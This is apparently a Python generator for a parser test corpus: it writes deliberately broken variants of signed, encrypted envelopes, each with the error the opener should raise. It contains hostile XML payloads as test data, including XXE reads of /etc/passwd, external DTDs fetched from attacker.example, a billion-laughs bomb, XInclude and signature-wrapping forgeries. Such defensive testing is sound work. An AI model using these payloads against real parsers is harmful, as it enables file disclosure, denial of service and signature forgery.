"""Write the attack corpus into tests/vectors/attacks/: one hostile envelope per file.

Run: ``python -m tests.vectors.make_attacks`` (``--reseal`` seals new base envelopes).

Every file is a deliberately broken variant of one of a few valid *base* envelopes
(``base_*.valise``), named by what it shows, with the error class that
:func:`envelope.open.open_bytes` must raise, opened as site ``M-PARIS`` with the fixed
recipient key and the fixed sender's verify key. The list, with provenance, is
``attacks/MANIFEST.json``; ``tests/unit/test_attack_corpus.py`` replays it.

Keys come from constant seeds and every random value of a base envelope from
``FixedRandom(seed)``. Only the HPKE encapsulations are random (pyca/cryptography
offers no seam), so the bases are *persisted*: by default this script reads the
committed bases and derives every attack from them; ``--reseal`` (or a missing base)
seals a new one, after which every file changes. Each attack is a pure function of
the bases and the constant keys (Ed25519 signing is deterministic), so re-running
the script rewrites identical bytes.

Two kinds of attacker appear:
- a *relay* (or anyone on the path): may change any byte but cannot sign as the
  origin; its edits must fail the framing, the parser, the signature or a digest;
- a *hostile sender*: holds the origin key (here: the fixed sender seed), re-signs
  what it tampered with (``..._resigned`` and the chunk attacks), and so tests the
  checks that stand behind the signature: the format's rules, the inner parser,
  the HPKE ``info`` binding and STREAM (chunk order, last-chunk flag, per-part keys).

Where an attack changes the XML head, the 4-byte head length is recomputed, so that
the file reaches the check it targets instead of failing on the framing.
"""

from __future__ import annotations

import argparse
import base64
import hashlib
import json
import re
from collections.abc import Callable, Mapping, Sequence
from dataclasses import dataclass, field
from datetime import UTC, datetime
from pathlib import Path

from lxml import etree

from crypto.keys import DecryptionKey, EncryptionKey, SigningKey
from crypto.random import FixedRandom
from crypto.recipes import (
    CHUNK_BYTES,
    CHUNK_CIPHERTEXT_BYTES,
    ciphertext_size,
    open_segment,
    part_key,
    seal_segment,
    sign,
    unwrap,
)
from envelope import limits
from envelope.framing import MAGIC
from envelope.head import SIGNATURE_LABEL
from envelope.model import PartInfo, SealedHeader
from envelope.open import parse_framed_head
from envelope.seal import Recipient, Sealing, WrapFn, new_routing, seal_bytes, wrap_info

HERE = Path(__file__).parent / "attacks"
GENERATOR = "tests/vectors/make_attacks.py"
COMMAND = "python -m tests.vectors.make_attacks"
NOW = datetime(2026, 12, 1, 9, 0, 0, tzinfo=UTC)

SENDER_SITE = "HQ"
RECIPIENT_SITE = "M-PARIS"
THIRD_SITE = "M-HANOI"
SENDER_SEED = bytes([1]) * 32
RECIPIENT_SEED = bytes([2]) * 96
THIRD_SIGNING_SEED = bytes([3]) * 32
THIRD_ENCRYPTION_SEED = bytes([3]) * 96


@dataclass(frozen=True)
class Keys:
    sender: SigningKey
    recipient: DecryptionKey
    third_signing: SigningKey
    third: DecryptionKey

    def encryption_key(self, which: str) -> EncryptionKey:
        return {"recipient": self.recipient, "third": self.third}[which].public


def fixed_keys() -> Keys:
    return Keys(
        sender=SigningKey.from_seed(SENDER_SEED),
        recipient=DecryptionKey.from_seed(RECIPIENT_SEED),
        third_signing=SigningKey.from_seed(THIRD_SIGNING_SEED),
        third=DecryptionKey.from_seed(THIRD_ENCRYPTION_SEED),
    )


# -- the base envelopes -----------------------------------------------------------


def blob(label: str, n: int) -> bytes:
    """``n`` fixed pseudo-random bytes (part contents of the chunked bases)."""
    return hashlib.shake_256(b"valise/v1/attack-part\x00" + label.encode()).digest(n)


@dataclass(frozen=True)
class BaseSpec:
    name: str
    shows: str
    # (site, "recipient" | "third"): whose encryption key the site's stanza wraps to.
    destinations: tuple[tuple[str, str], ...]
    parts: tuple[tuple[str, str, bytes], ...]
    subject: str = "Note verbale"

    @property
    def file(self) -> str:
        return f"{self.name}.valise"

    @property
    def rng_seed(self) -> bytes:
        return f"valise/v1/attack-base/{self.name}".encode()


BASES = (
    BaseSpec(
        "base_simple",
        "a valid envelope HQ -> M-PARIS with one small part",
        ((RECIPIENT_SITE, "recipient"),),
        (("note.txt", "text/plain", b"Attack corpus: base envelope.\n"),),
    ),
    BaseSpec(
        "base_two_recipients",
        "a valid envelope HQ -> M-PARIS and M-HANOI (third-party key); its segments have"
        " the same lengths as base_simple's",
        ((RECIPIENT_SITE, "recipient"), (THIRD_SITE, "third")),
        (("note.txt", "text/plain", b"Attack corpus: two recipients\n"),),
    ),
    BaseSpec(
        "base_shared_key",
        "a valid envelope HQ -> M-PARIS and M-HANOI, both stanzas wrapped to the same"
        " (recipient) key, so only the HPKE info tells them apart",
        ((RECIPIENT_SITE, "recipient"), (THIRD_SITE, "recipient")),
        (("note.txt", "text/plain", b"Attack corpus: one shared key\n"),),
    ),
    BaseSpec(
        "base_two_chunks",
        "a valid envelope HQ -> M-PARIS with one part of exactly two full chunks",
        ((RECIPIENT_SITE, "recipient"),),
        (("two-chunks.bin", "application/octet-stream", blob("two-chunks", 2 * CHUNK_BYTES)),),
    ),
    BaseSpec(
        "base_two_parts",
        "a valid envelope HQ -> M-PARIS with two parts, each a full chunk then a 1-byte last chunk",
        ((RECIPIENT_SITE, "recipient"),),
        (
            ("first.bin", "application/octet-stream", blob("first", CHUNK_BYTES + 1)),
            ("second.bin", "application/octet-stream", blob("second", CHUNK_BYTES + 1)),
        ),
    ),
)
BASE_BY_NAME = {b.name: b for b in BASES}


def seal_base(spec: BaseSpec, keys: Keys, wrap_fn: WrapFn | None = None) -> bytes:
    """Seal ``spec``; with ``wrap_fn`` replaying recorded wraps the result is reproducible."""
    rng = FixedRandom(spec.rng_seed)
    routing = new_routing(
        origin=SENDER_SITE,
        destinations=[site for site, _ in spec.destinations],
        now=NOW,
        rng=rng,
    )
    sealed = SealedHeader(
        parts=tuple(PartInfo(n, t, len(d)) for n, t, d in spec.parts), subject=spec.subject
    )
    extra = {} if wrap_fn is None else {"wrap_fn": wrap_fn}
    sealing = Sealing(
        routing=routing,
        sender=keys.sender,
        recipients=[Recipient(site, keys.encryption_key(w)) for site, w in spec.destinations],
        sealed=sealed,
        rng=rng,
        **extra,
    )
    return seal_bytes(sealing, [d for _, _, d in spec.parts])


def recorded_wraps(data: bytes) -> WrapFn:
    """A ``wrap_fn`` that hands back the wraps recorded in the envelope ``data``."""
    parsed, _ = parse_framed_head(data)
    mid = parsed.head.routing.message_id
    table = {wrap_info(mid, s.site, s.key_id): s.wrapped for s in parsed.head.recipients}

    def replay(content_key: bytes, key: EncryptionKey, info: bytes) -> bytes:
        return table[info]

    return replay


def load_bases(directory: Path, keys: Keys, *, reseal: bool = False) -> dict[str, bytes]:
    """The committed base envelopes (sealing any that is missing, or all with ``reseal``)."""
    out = {}
    for spec in BASES:
        path = directory / spec.file
        out[spec.name] = (
            path.read_bytes() if path.exists() and not reseal else seal_base(spec, keys)
        )
    return out


# -- byte surgery -------------------------------------------------------------------


def frame(head: bytes, body: bytes = b"") -> bytes:
    """Frame ``head`` correctly: magic, the true 4-byte length, the head, then ``body``."""
    return MAGIC + len(head).to_bytes(4, "big") + head + body


@dataclass(frozen=True)
class Env:
    """A base envelope cut into its head XML and its segments."""

    head: bytes
    segments: tuple[bytes, ...]

    @property
    def body(self) -> bytes:
        return b"".join(self.segments)

    def framed(self) -> bytes:
        return frame(self.head, self.body)

    def with_head(self, head: bytes) -> bytes:
        return frame(head, self.body)


def split(data: bytes) -> Env:
    parsed, offset = parse_framed_head(data)
    segments, pos = [], offset
    for segment in parsed.head.manifest.segments:
        segments.append(data[pos : pos + segment.length])
        pos += segment.length
    assert pos == len(data)
    return Env(data[12:offset], tuple(segments))


def sub(data: bytes, old: bytes, new: bytes, count: int = 1) -> bytes:
    """Replace ``old`` (which must occur exactly ``count`` times) by ``new``."""
    found = data.count(old)
    if found != count:
        raise AssertionError(f"{old[:60]!r} occurs {found} times, not {count}")
    return data.replace(old, new)


def flip(data: bytes, index: int) -> bytes:
    out = bytearray(data)
    out[index] ^= 0x01
    return bytes(out)


_SIGNATURE_RE = re.compile(rb'<signature key="([0-9a-f]{32})">([^<]*)</signature>')
_SEGMENT_RE = re.compile(
    rb'<(sealed-header|part) length="[0-9]+" sha256="[0-9a-f]{64}"></(?:sealed-header|part)>'
)
_STANZA_RE = re.compile(rb'<recipient key="([0-9a-f]{32})" site="([A-Z0-9-]+)">([^<]*)</recipient>')
_ENVELOPE_OPEN = b'<envelope xmlns="urn:valise:1" version="1">'


def signed_bytes(head: bytes) -> bytes:
    start = head.index(b"<signed>")
    return head[start : head.index(b"</signed>") + len(b"</signed>")]


def signature_text(head: bytes) -> bytes:
    match = _SIGNATURE_RE.search(head)
    assert match is not None
    return match.group(2)


def stanza_texts(head: bytes) -> list[bytes]:
    return [m.group(3) for m in _STANZA_RE.finditer(head)]


def resign(head: bytes, key: SigningKey, *, label: bytes = SIGNATURE_LABEL) -> bytes:
    """Sign the head's ``<signed>`` bytes anew, as a sender holding ``key`` would."""
    signature = sign(key, label + signed_bytes(head))
    element = (
        f'<signature key="{key.key_id}">'.encode() + base64.b64encode(signature) + b"</signature>"
    )
    match = _SIGNATURE_RE.search(head)
    assert match is not None
    return head[: match.start()] + element + head[match.end() :]


def fix_manifest(head: bytes, segments: Sequence[bytes]) -> bytes:
    """Rewrite every segment's length and SHA-256 in the manifest to match ``segments``."""
    matches = list(_SEGMENT_RE.finditer(head))
    assert len(matches) == len(segments)
    out, pos = [], 0
    for match, segment in zip(matches, segments, strict=True):
        name = match.group(1).decode()
        digest = hashlib.sha256(segment).hexdigest()
        out.append(head[pos : match.start()])
        out.append(f'<{name} length="{len(segment)}" sha256="{digest}"></{name}>'.encode())
        pos = match.end()
    out.append(head[pos:])
    return b"".join(out)


def content_key(env: Env, keys: Keys) -> bytes:
    """The content key of a base envelope, unwrapped with the recipient key."""
    parsed = parse_framed_head(env.framed())[0]
    mid = parsed.head.routing.message_id
    stanza = next(s for s in parsed.head.recipients if s.site == RECIPIENT_SITE)
    return unwrap(stanza.wrapped, keys.recipient, wrap_info(mid, stanza.site, stanza.key_id))


def chunks(segment: bytes) -> list[bytes]:
    step = CHUNK_CIPHERTEXT_BYTES
    return [segment[i : i + step] for i in range(0, len(segment), step)]


def hop(site: str, key_id: str, received_from: str) -> bytes:
    signature = base64.b64encode(bytes(64)).decode()
    return (
        f'<hop at="2026-12-01T09:05:00Z" from="{received_from}" key="{key_id}" site="{site}">'
        f"{signature}</hop>"
    ).encode()


_B64_ALPHABET = b"ABCDEFGHIJKLMNOPQRSTUVWXYZabcdefghijklmnopqrstuvwxyz0123456789+/"


def dirty_padding(text: bytes) -> bytes:
    """Set a padding bit of canonical ``...X==`` base64: same bytes decoded, another string."""
    assert text.endswith(b"==")
    index = _B64_ALPHABET.index(text[-3:-2]) | 1  # the low 4 bits of X are padding
    return text[:-3] + _B64_ALPHABET[index : index + 1] + b"=="


def element_count(head: bytes) -> int:
    parser = etree.XMLParser(resolve_entities=False, no_network=True)
    return sum(1 for _ in etree.fromstring(head, parser).iter())


# -- the attacks --------------------------------------------------------------------


@dataclass(frozen=True)
class Attack:
    file: str
    shows: str
    expected_error: str
    base: str
    data: bytes = field(repr=False)
    # Only where the one-pass streaming reader must legitimately report another class.
    expected_error_streaming: str | None = None

    def entry(self) -> dict[str, str]:
        out = {
            "file": self.file,
            "shows": self.shows,
            "expected_error": self.expected_error,
        }
        if self.expected_error_streaming is not None:
            out["expected_error_streaming"] = self.expected_error_streaming
        out["base"] = self.base
        out["sha256"] = hashlib.sha256(self.data).hexdigest()
        return out


def build_attacks(bases: Mapping[str, bytes], keys: Keys) -> list[Attack]:
    """Every attack, derived deterministically from the base envelopes and the fixed keys."""
    attacks: list[Attack] = []
    names: set[str] = set()

    def add(
        name: str, expected: str, base: str, shows: str, data: bytes, streaming: str | None = None
    ) -> None:
        assert name not in names, name
        assert len(data) < 1_000_000, name
        names.add(name)
        attacks.append(Attack(f"{name}.valise", shows, expected, base, data, streaming))

    s = split(bases["base_simple"])
    two = split(bases["base_two_recipients"])
    shared = split(bases["base_shared_key"])
    raw = s.framed()
    h = s.head
    sender, other = keys.sender, keys.third_signing

    def head_attack(name: str, expected: str, shows: str, edit: Callable[[bytes], bytes]) -> None:
        """An attack on base_simple's head, re-framed with the true length."""
        add(name, expected, "base_simple", shows, s.with_head(edit(h)))

    def resigned(name: str, expected: str, shows: str, edit: Callable[[bytes], bytes]) -> None:
        """A hostile sender's edit of base_simple's head, signed again with the origin key."""
        add(name, expected, "base_simple", shows, s.with_head(resign(edit(h), sender)))

    # -- framing ----------------------------------------------------------------
    add(
        "bad_magic",
        "FramingError",
        "base_simple",
        "the magic is not VALISE\\0\\1",
        b"XALISE\x00\x01" + raw[8:],
    )
    add(
        "magic_other_version",
        "FramingError",
        "base_simple",
        "the magic of a format version 2 that does not exist",
        MAGIC[:-1] + b"\x02" + raw[8:],
    )
    add("empty_file", "FramingError", "base_simple", "zero bytes", b"")
    add(
        "truncated_prefix",
        "FramingError",
        "base_simple",
        "the file ends inside the 12-byte prefix",
        raw[:10],
    )
    add(
        "truncated_head",
        "FramingError",
        "base_simple",
        "the file ends halfway through the head the prefix announces",
        raw[: 12 + len(h) // 2],
    )
    add(
        "truncated_last_segment",
        "FramingError",
        "base_simple",
        "the last byte of the last segment is missing",
        raw[:-1],
    )
    add(
        "trailing_data",
        "FramingError",
        "base_simple",
        "one byte after the last segment the manifest accounts for",
        raw + b"\x00",
    )
    add(
        "two_envelopes_concatenated",
        "FramingError",
        "base_simple",
        "a second whole envelope appended after the first",
        raw + raw,
    )
    add(
        "head_length_over_limit",
        "LimitExceeded",
        "base_simple",
        "the prefix announces MAX_HEAD_XML_BYTES + 1 head bytes (refused before reading them)",
        MAGIC + (limits.MAX_HEAD_XML_BYTES + 1).to_bytes(4, "big") + h + s.body,
    )
    add(
        "head_length_max_uint32",
        "LimitExceeded",
        "base_simple",
        "the prefix announces a 4 GiB head",
        MAGIC + b"\xff\xff\xff\xff" + h + s.body,
    )
    add(
        "head_length_zero",
        "MalformedXML",
        "base_simple",
        "the prefix announces an empty head: the head is not an XML document",
        MAGIC + bytes(4) + h + s.body,
    )
    add(
        "head_length_understated",
        "MalformedXML",
        "base_simple",
        "the prefix announces one byte less: the head's last '>' falls outside it",
        MAGIC + (len(h) - 1).to_bytes(4, "big") + h + s.body,
    )
    add(
        "head_length_overstated",
        "MalformedXML",
        "base_simple",
        "the prefix announces 16 bytes more: ciphertext follows the root element",
        MAGIC + (len(h) + 16).to_bytes(4, "big") + h + s.body,
    )

    # -- forbidden XML constructs ---------------------------------------------------
    doc = b"<class>document</class>"
    xxe = b'<!DOCTYPE envelope [<!ENTITY xxe SYSTEM "file:///etc/passwd">]>'
    head_attack(
        "xxe_external_entity",
        "MalformedXML",
        "an internal DTD declaring an external entity (file:///etc/passwd) used in <class>",
        lambda x: xxe + sub(x, doc, b"<class>&xxe;</class>"),
    )
    head_attack(
        "xxe_parameter_entity",
        "MalformedXML",
        "a DTD pulling an external parameter entity from the network",
        lambda x: (
            b"<!DOCTYPE envelope [<!ENTITY % ext SYSTEM"
            b' "http://attacker.example/evil.dtd"> %ext;]>' + x
        ),
    )
    lol = b'<!ENTITY lol0 "lol">' + b"".join(
        f'<!ENTITY lol{i} "{f"&lol{i - 1};" * 10}">'.encode() for i in range(1, 10)
    )
    head_attack(
        "billion_laughs",
        "MalformedXML",
        "nested internal entities expanding to 10^9 'lol's",
        lambda x: b"<!DOCTYPE envelope [" + lol + b"]>" + sub(x, doc, b"<class>&lol9;</class>"),
    )
    head_attack(
        "external_dtd",
        "MalformedXML",
        "a DOCTYPE naming an external DTD on the network",
        lambda x: b'<!DOCTYPE envelope SYSTEM "http://attacker.example/valise.dtd">' + x,
    )
    head_attack(
        "utf16_doctype_bypass",
        "MalformedXML",
        "the XXE head encoded as UTF-16 (with BOM), so no byte string '<!' appears in it",
        lambda x: (xxe + sub(x, doc, b"<class>&xxe;</class>")).decode().encode("utf-16"),
    )
    head_attack(
        "undeclared_entity_reference",
        "MalformedXML",
        "an entity reference with no DTD at all: not well-formed",
        lambda x: sub(x, doc, b"<class>&xxe;</class>"),
    )
    head_attack(
        "comment_inside_head",
        "MalformedXML",
        "a comment in the (unsigned) trace",
        lambda x: sub(x, b"<trace></trace>", b"<trace><!-- relay note --></trace>"),
    )
    mid = parse_framed_head(raw)[0].head.routing.message_id.encode()
    head_attack(
        "comment_inside_signed_text",
        "MalformedXML",
        "a comment splitting the signed message id (the SAML comment-truncation trick)",
        lambda x: sub(x, b"<id>" + mid[:8], b"<id>" + mid[:8] + b"<!---->"),
    )
    head_attack(
        "utf16_comment",
        "MalformedXML",
        "a comment in a UTF-16 head, where no byte string '<!' gives it away",
        lambda x: (
            sub(x, b"<trace></trace>", b"<trace><!-- x --></trace>").decode().encode("utf-16")
        ),
    )
    head_attack(
        "processing_instruction",
        "MalformedXML",
        "a processing instruction inside the root element",
        lambda x: sub(
            x,
            b"<trace></trace>",
            b'<trace><?xml-stylesheet href="http://attacker.example/x.xsl"?></trace>',
        ),
    )
    head_attack(
        "processing_instruction_prolog",
        "MalformedXML",
        "a processing instruction before the root element",
        lambda x: b'<?xml-stylesheet href="http://attacker.example/x.xsl"?>' + x,
    )
    head_attack(
        "cdata_section",
        "MalformedXML",
        "the document class written as a CDATA section",
        lambda x: sub(x, doc, b"<class><![CDATA[document]]></class>"),
    )
    head_attack(
        "nul_byte_in_head",
        "MalformedXML",
        "a NUL byte in the trace: not XML at all",
        lambda x: sub(x, b"<trace></trace>", b"<trace>\x00</trace>"),
    )
    head_attack(
        "invalid_utf8",
        "MalformedXML",
        "a byte 0xFF, which is not UTF-8",
        lambda x: sub(x, b"<trace></trace>", b"<trace>\xff</trace>"),
    )
    head_attack(
        "duplicate_attribute",
        "MalformedXML",
        "an attribute given twice on one element: not well-formed",
        lambda x: sub(x, b'<signature key="', b'<signature key="' + b"0" * 32 + b'" key="'),
    )
    head_attack(
        "xinclude",
        "SchemaError",
        "an XInclude of file:///etc/passwd in the trace: never resolved, a foreign"
        " (prefixed) element the format does not allow",
        lambda x: sub(
            x,
            b"<trace></trace>",
            b'<trace><xi:include xmlns:xi="http://www.w3.org/2001/XInclude"'
            b' href="file:///etc/passwd" parse="text"></xi:include></trace>',
        ),
    )
    head_attack(
        "xinclude_default_namespace",
        "SchemaError",
        "an unprefixed XInclude element: never resolved, not in the schema",
        lambda x: sub(
            x,
            b"<trace></trace>",
            b'<trace><include xmlns="http://www.w3.org/2001/XInclude"'
            b' href="file:///etc/passwd" parse="text"></include></trace>',
        ),
    )

    # -- not the canonical byte form --------------------------------------------------
    head_attack(
        "xml_declaration",
        "NonCanonical",
        "an XML declaration before the root element",
        lambda x: b'<?xml version="1.0" encoding="UTF-8"?>' + x,
    )
    head_attack(
        "utf8_bom",
        "NonCanonical",
        "a UTF-8 byte order mark before the root element",
        lambda x: b"\xef\xbb\xbf" + x,
    )
    head_attack(
        "utf16_encoded_head",
        "NonCanonical",
        "the exact head re-encoded as UTF-16: same infoset, other bytes",
        lambda x: x.decode().encode("utf-16"),
    )

    def pretty(x: bytes) -> bytes:
        # A newline between every two tags, except inside empty elements (<part ...></part>),
        # whose XSD content type is empty and so would be a schema fault, not a canonical one.
        return re.sub(rb"(<([a-z-]+)[^<>]*>)\n(</\2>)", rb"\1\3", x.replace(b"><", b">\n<"))

    head_attack(
        "whitespace_between_elements",
        "NonCanonical",
        "the head pretty-printed: a newline between every two elements (element-only"
        " content, which the XSD allows, so only the canonical-form rule refuses it)",
        pretty,
    )
    head_attack(
        "whitespace_in_trace",
        "NonCanonical",
        "a newline inside the empty, unsigned <trace>: the head is no longer the one"
        " canonical form (no whitespace between elements)",
        lambda x: sub(x, b"<trace></trace>", b"<trace>\n</trace>"),
    )
    head_attack(
        "whitespace_after_signature",
        "NonCanonical",
        "a space between </signature> and <trace>, outside the signed bytes",
        lambda x: sub(x, b"</signature><trace>", b"</signature> <trace>"),
    )
    head_attack(
        "trailing_newline_after_root",
        "NonCanonical",
        "a newline after </envelope>, inside the announced head length",
        lambda x: x + b"\n",
    )
    head_attack(
        "leading_whitespace_before_root",
        "NonCanonical",
        "a newline before <envelope>",
        lambda x: b"\n" + x,
    )
    head_attack(
        "attribute_order_changed",
        "NonCanonical",
        "the recipient stanza's attributes as site=.. key=.. (c14n sorts them)",
        lambda x: _STANZA_RE.sub(rb'<recipient site="\2" key="\1">\3</recipient>', x),
    )
    head_attack(
        "single_quoted_attribute",
        "NonCanonical",
        "version='1' in single quotes",
        lambda x: sub(x, b'version="1">', b"version='1'>"),
    )
    head_attack(
        "self_closing_element",
        "NonCanonical",
        "<trace/> instead of <trace></trace>",
        lambda x: sub(x, b"<trace></trace>", b"<trace/>"),
    )
    head_attack(
        "character_reference",
        "NonCanonical",
        "the origin written as &#72;Q: same value, other bytes",
        lambda x: sub(x, b"<origin>HQ</origin>", b"<origin>&#72;Q</origin>"),
    )
    head_attack(
        "space_inside_tag",
        "NonCanonical",
        "<trace > with a space before '>'",
        lambda x: sub(x, b"<trace></trace>", b"<trace ></trace>"),
    )
    head_attack(
        "namespace_extra_declaration",
        "NonCanonical",
        "an unused xmlns:x declaration on the root (exc-c14n drops it)",
        lambda x: sub(
            x, _ENVELOPE_OPEN, b'<envelope xmlns="urn:valise:1" xmlns:x="urn:attacker" version="1">'
        ),
    )
    head_attack(
        "namespace_redundant_default",
        "NonCanonical",
        "the default namespace declared again on <signed>",
        lambda x: sub(x, b"<signed>", b'<signed xmlns="urn:valise:1">'),
    )

    # -- namespaces -------------------------------------------------------------------
    def prefix_everything(x: bytes) -> bytes:
        x = re.sub(rb"<(/?)([a-z])", rb"<\1v:\2", x)
        return sub(x, b'xmlns="urn:valise:1"', b'xmlns:v="urn:valise:1"')

    head_attack(
        "namespace_prefix_trick",
        "SchemaError",
        'every element as v:name with xmlns:v="urn:valise:1": same names, prefixed',
        prefix_everything,
    )
    head_attack(
        "namespace_prefix_on_signed",
        "SchemaError",
        "only <signed> prefixed (v:signed, same namespace)",
        lambda x: sub(
            sub(x, b"<signed>", b'<v:signed xmlns:v="urn:valise:1">'), b"</signed>", b"</v:signed>"
        ),
    )
    head_attack(
        "namespace_wrong_uri",
        "SchemaError",
        "the default namespace is urn:valise:2",
        lambda x: sub(x, b'xmlns="urn:valise:1"', b'xmlns="urn:valise:2"'),
    )
    head_attack(
        "namespace_missing",
        "SchemaError",
        "no namespace declaration at all",
        lambda x: sub(x, b' xmlns="urn:valise:1"', b""),
    )
    head_attack(
        "namespace_undeclared_inner",
        "SchemaError",
        '<trace xmlns="">: the trace taken out of the Valise namespace',
        lambda x: sub(x, b"<trace></trace>", b'<trace xmlns=""></trace>'),
    )
    head_attack(
        "namespaced_attribute",
        "SchemaError",
        "the signature's key given again as a prefixed attribute v:key",
        lambda x: sub(
            x,
            b'<signature key="',
            b'<signature xmlns:v="urn:valise:1" v:key="' + b"0" * 32 + b'" key="',
        ),
    )
    head_attack(
        "xsi_schema_location",
        "SchemaError",
        "xsi:schemaLocation pointing at an attacker's schema, on the unsigned <trace>:"
        " a prefixed attribute the format does not allow",
        lambda x: sub(
            x,
            b"<trace></trace>",
            b'<trace xmlns:xsi="http://www.w3.org/2001/XMLSchema-instance"'
            b' xsi:schemaLocation="urn:valise:1'
            b' http://attacker.example/valise.xsd"></trace>',
        ),
    )
    head_attack(
        "xml_lang_attribute",
        "SchemaError",
        "xml:lang on <trace>",
        lambda x: sub(x, b"<trace></trace>", b'<trace xml:lang="en"></trace>'),
    )

    # -- signature wrapping and structure -----------------------------------------------
    signed = signed_bytes(h)
    forged = sub(
        sub(signed, b"<priority>routine</priority>", b"<priority>flash</priority>"),
        b"<class>document</class>",
        b"<class>orders</class>",
    )
    routing = signed[len(b"<signed>") : signed.index(b"</routing>") + len(b"</routing>")]
    forged_routing = forged[len(b"<signed>") : forged.index(b"</routing>") + len(b"</routing>")]
    head_attack(
        "signature_wrapping_duplicated_routing",
        "SchemaError",
        "a forged <routing> (flash, class orders) before the signed one inside <signed>",
        lambda x: sub(x, routing, forged_routing + routing),
    )
    head_attack(
        "signature_wrapping_moved_signed",
        "SchemaError",
        "a forged <signed> in place; the original, which the signature covers, moved"
        " into the unsigned <trace>",
        lambda x: sub(
            sub(x, signed, forged), b"<trace></trace>", b"<trace>" + signed + b"</trace>"
        ),
    )
    head_attack(
        "signature_wrapping_second_signed",
        "SchemaError",
        "a forged <signed> before the original one",
        lambda x: sub(x, signed, forged + signed),
    )
    head_attack(
        "signature_wrapping_signed_after_signature",
        "SchemaError",
        "a forged <signed> after the <signature>",
        lambda x: sub(x, b"</signature>", b"</signature>" + forged),
    )
    head_attack(
        "duplicated_signature",
        "SchemaError",
        "a second <signature> element (by another key) after the first",
        lambda x: sub(
            x, b"</signature>", b"</signature>" + _SIGNATURE_RE.search(resign(x, other))[0]
        ),
    )
    head_attack(
        "unknown_element_in_routing",
        "SchemaError",
        "an extension element <x-route> at the end of <routing>",
        lambda x: sub(x, b"</routing>", b"<x-route>M-HANOI</x-route></routing>"),
    )
    head_attack(
        "unknown_attribute",
        "SchemaError",
        '<routing via="M-HANOI">',
        lambda x: sub(x, b"<routing>", b'<routing via="M-HANOI">'),
    )
    head_attack(
        "missing_signature",
        "SchemaError",
        "no <signature> element",
        lambda x: _SIGNATURE_RE.sub(b"", x),
    )
    head_attack(
        "missing_trace",
        "SchemaError",
        "no <trace> element",
        lambda x: sub(x, b"<trace></trace>", b""),
    )
    head_attack(
        "version_changed",
        "SchemaError",
        '<envelope version="2">',
        lambda x: sub(x, b'version="1">', b'version="2">'),
    )

    # -- base64 ---------------------------------------------------------------------------
    sig = signature_text(h)
    head_attack(
        "non_canonical_base64",
        "SchemaError",
        "the signature's base64 with non-zero padding bits: decodes to the same 64"
        " bytes, but is another string (malleable envelope digest)",
        lambda x: sub(x, sig, dirty_padding(sig)),
    )
    wrapped = stanza_texts(h)[0]
    head_attack(
        "non_canonical_base64_wrapped_key",
        "SchemaError",
        "the wrapped key's base64 with non-zero padding bits",
        lambda x: sub(x, wrapped, dirty_padding(wrapped)),
    )
    head_attack(
        "base64_with_whitespace",
        "SchemaError",
        "a space in the middle of the signature's base64",
        lambda x: sub(x, sig, sig[:40] + b" " + sig[40:]),
    )
    head_attack(
        "base64_with_newline",
        "SchemaError",
        "the wrapped key's base64 broken into 76-character lines (MIME style)",
        lambda x: sub(
            x, wrapped, b"\n".join(wrapped[i : i + 76] for i in range(0, len(wrapped), 76))
        ),
    )
    head_attack(
        "base64_unpadded",
        "SchemaError",
        "the signature's base64 without its '=='",
        lambda x: sub(x, sig, sig[:-2]),
    )
    assert b"+" in wrapped or b"/" in wrapped
    head_attack(
        "base64_urlsafe_alphabet",
        "SchemaError",
        "the wrapped key in the URL-safe base64 alphabet ('-' and '_')",
        lambda x: sub(x, wrapped, wrapped.replace(b"+", b"-").replace(b"/", b"_")),
    )

    # -- limits ---------------------------------------------------------------------------
    head_attack(
        "oversized_element_text",
        "LimitExceeded",
        f"a signature text of 4100 base64 characters (over {limits.MAX_XML_TEXT_CHARS})",
        lambda x: sub(x, sig, base64.b64encode(bytes(3075))),
    )
    head_attack(
        "oversized_attribute",
        "LimitExceeded",
        f"a signature key attribute of {limits.MAX_XML_ATTRIBUTE_CHARS + 1} characters",
        lambda x: _SIGNATURE_RE.sub(
            b'<signature key="'
            + b"0" * (limits.MAX_XML_ATTRIBUTE_CHARS + 1)
            + b'">'
            + sig
            + b"</signature>",
            x,
        ),
    )
    head_attack(
        "too_many_attributes",
        "LimitExceeded",
        f"{limits.MAX_XML_ATTRIBUTES + 1} attributes on <signature>",
        lambda x: sub(
            x,
            b'<signature key="',
            b"<signature "
            + b"".join(f'a{i}="1" '.encode() for i in range(limits.MAX_XML_ATTRIBUTES))
            + b'key="',
        ),
    )
    depth = limits.MAX_XML_DEPTH - 1  # envelope, trace, then this many: MAX_XML_DEPTH + 1
    head_attack(
        "too_deep",
        "LimitExceeded",
        f"elements nested {limits.MAX_XML_DEPTH + 1} deep inside the trace",
        lambda x: sub(
            x, b"<trace></trace>", b"<trace>" + b"<hop>" * depth + b"</hop>" * depth + b"</trace>"
        ),
    )
    extra = limits.MAX_XML_ELEMENTS + 1 - element_count(h)
    head_attack(
        "too_many_elements",
        "LimitExceeded",
        f"{limits.MAX_XML_ELEMENTS + 1} elements: empty <hop>s filling the trace",
        lambda x: sub(x, b"<trace></trace>", b"<trace>" + b"<hop></hop>" * extra + b"</trace>"),
    )
    hops = b"".join(hop(f"M-RELAY{i}", "0" * 32, SENDER_SITE) for i in range(limits.MAX_HOPS + 1))
    head_attack(
        "too_many_hops",
        "LimitExceeded",
        f"{limits.MAX_HOPS + 1} well-formed hop records in the trace",
        lambda x: sub(x, b"<trace></trace>", b"<trace>" + hops + b"</trace>"),
    )
    many_to = b"".join(f"<to>M-{i:04d}</to>".encode() for i in range(limits.MAX_DESTINATIONS))
    resigned(
        "too_many_destinations",
        "LimitExceeded",
        f"{limits.MAX_DESTINATIONS + 1} destinations (signed by the origin)",
        lambda x: sub(x, b"<to>M-PARIS</to>", b"<to>M-PARIS</to>" + many_to),
    )
    empty_part = f'<part length="16" sha256="{"0" * 64}"></part>'.encode()
    resigned(
        "too_many_parts",
        "LimitExceeded",
        f"{limits.MAX_PARTS + 1} parts in the manifest (signed by the origin)",
        lambda x: sub(x, b"</manifest>", empty_part * limits.MAX_PARTS + b"</manifest>"),
    )
    huge = ciphertext_size(limits.MAX_PART_BYTES + 1)
    resigned(
        "part_length_over_limit",
        "LimitExceeded",
        "a part announced at MAX_PART_BYTES + 1 plaintext bytes (the file is short)",
        lambda x: re.sub(rb'<part length="[0-9]+"', f'<part length="{huge}"'.encode(), x),
    )
    big = ciphertext_size(limits.MAX_SEALED_HEADER_BYTES + 1)
    resigned(
        "sealed_header_length_over_limit",
        "LimitExceeded",
        "a sealed header announced at MAX_SEALED_HEADER_BYTES + 1 bytes",
        lambda x: re.sub(
